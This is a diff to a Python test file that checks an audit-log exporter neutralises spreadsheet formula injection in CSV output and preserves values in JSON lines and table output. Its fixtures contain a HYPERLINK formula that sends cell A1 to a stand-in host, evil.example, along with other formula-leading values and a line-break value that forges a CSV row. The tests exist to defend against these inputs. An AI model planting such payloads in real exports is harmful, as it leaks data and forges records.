@@ -28,7 +28,7 @@ from tests.audit_helpers import (
     write_log,
 )
 from wsgate.audit import chain, cli, query
-from wsgate.audit.records import REJECTED, EventRecord
+from wsgate.audit.records import REJECTED, ConnectionInfo, EventRecord
 
 backend = audit_helpers.backend  # the fixture: SQLite, and PostgreSQL when configured
 
@@ -47,6 +47,68 @@ def sample_log(b: Backend) -> None:
         ("end", [end(topic("call"), at=minutes(40), conn=C1)]),
         ("end", [end(topic("callback"), "disconnect", at=minutes(50), conn=C1)]),
     ], checkpoint_every=1000)
+
+
+#: A User-Agent that a spreadsheet would run as a formula (it leaks cell A1 on click).
+HOSTILE_UA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+#: Topics (rejected: invalid) beginning with each character that starts a formula.
+FORMULA_TOPICS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+#: A rejected topic that would add a forged row to a CSV whose cells were not quoted.
+ROW_BREAK = "x\r9,2024-05-01T12:00:00Z,node-a,c1,subscribe,customer_id:C,accepted"
+
+
+def row_topics(formula: list[str]) -> list[str]:
+    """The topics of hostile_log's rows, with its formula topics as given."""
+    return [topic("call"), *formula, ROW_BREAK]
+
+
+def hostile_log(b: Backend) -> None:
+    """A client with that User-Agent and no Origin header (stored ""): one accepted
+    subscribe (its code is ""), then the formula topics and ROW_BREAK, rejected."""
+    conn = ConnectionInfo("c-evil", ALICE, "static", "10.0.0.9", "", HOSTILE_UA)
+    write_log(b, [("sub", [rec(topic("call"), at=minutes(0), conn=conn)]),
+                  ("sub", [rec(t, outcome=REJECTED, code="invalid_topic", at=minutes(1),
+                               conn=conn) for t in [*FORMULA_TOPICS, ROW_BREAK]])])
+
+
+def exported(b: Backend, fmt: str) -> str:
+    out = io.StringIO()
+    query.write_rows(query.AuditReader(b.engine()).rows(query.AuditFilter()), fmt, out)
+    return out.getvalue()
+
+
+def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(backend: Backend) -> None:
+    hostile_log(backend)
+    text = exported(backend, "csv")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["topic"] for r in rows] == row_topics(["'" + t for t in FORMULA_TOPICS])
+    assert [r["user_agent"] for r in rows] == ["'" + HOSTILE_UA] * 8
+    # Nothing else changes: numbers, ordinary text, empty values (empty cells); a
+    # line break inside a value is quoted, so it cannot start a row of its own.
+    assert [r["seq"] for r in rows] == ["1", "2", "3", "4", "5", "6", "7", "8"]
+    assert rows[0]["code"] == "" and rows[0]["origin"] == ""
+    assert rows[1]["code"] == "invalid_topic" and rows[1]["agent_id"] == AGENT
+
+
+def test_json_lines_keep_stored_values_and_show_empty_as_null(backend: Backend) -> None:
+    hostile_log(backend)
+    lines = [json.loads(line) for line in exported(backend, "jsonl").split("\n") if line]
+    assert [r["topic"] for r in lines] == row_topics(FORMULA_TOPICS)
+    assert [r["user_agent"] for r in lines] == [HOSTILE_UA] * 8
+    # The accepted subscribe's code and the missing Origin are stored as "": null here.
+    assert lines[0]["code"] is None and lines[0]["origin"] is None
+    assert lines[1]["code"] == "invalid_topic" and lines[1]["seq"] == 2
+    # The stored row is untouched, so the log still verifies.
+    assert query.AuditReader(backend.engine()).verify().first is None
+
+
+def test_table_shows_empty_as_a_dash(backend: Backend) -> None:
+    hostile_log(backend)
+    table = exported(backend, "table").splitlines()
+    accepted = table[1].split()
+    assert accepted[:8] == ["1", "2024-05-01T12:00:00.123456Z", "node-a", "c-evil",
+                            "subscribe", topic("call"), "accepted", "-"]
+    assert accepted[14] == "-" and accepted[15] == HOSTILE_UA  # origin, user_agent
 
 
 def seqs(b: Backend, **filters: Any) -> list[int]:
@@ -212,6 +274,29 @@ def test_cli_export_writes_a_file(backend: Backend, capsys: Any) -> None:
         rows = list(csv.DictReader(f))
     assert [r["seq"] for r in rows] == ["1", "2", "5", "6"]
     assert "wrote 4 rows" in capsys.readouterr().err
+
+
+def test_cli_csv_is_safe_and_json_lines_exact(backend: Backend, capsys: Any) -> None:
+    hostile_log(backend)
+    cfg = write_config(backend)
+    assert run_cli("audit", "query", "--config", cfg, "--format", "csv") == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert [r["topic"] for r in rows] == row_topics(["'" + t for t in FORMULA_TOPICS])
+    assert {r["user_agent"] for r in rows} == {"'" + HOSTILE_UA}
+    assert rows[0]["code"] == ""
+    out = backend.tmp / "export.csv"
+    assert run_cli("audit", "export", "--config", cfg, "--format", "csv",
+                   "--output", str(out)) == 0
+    with out.open(newline="") as f:
+        assert list(csv.DictReader(f)) == rows
+    out = backend.tmp / "export.jsonl"
+    assert run_cli("audit", "export", "--config", cfg, "--output", str(out)) == 0
+    lines = [json.loads(line) for line in out.read_text().split("\n") if line]
+    assert [r["topic"] for r in lines] == row_topics(FORMULA_TOPICS)
+    assert {r["user_agent"] for r in lines} == {HOSTILE_UA}
+    assert lines[0]["code"] is None
+    assert run_cli("audit", "query", "--config", cfg, "--format", "jsonl") == 0
+    assert [json.loads(line) for line in capsys.readouterr().out.split("\n") if line] == lines
 
 
 def test_cli_verify_exit_codes(backend: Backend, capsys: Any) -> None:
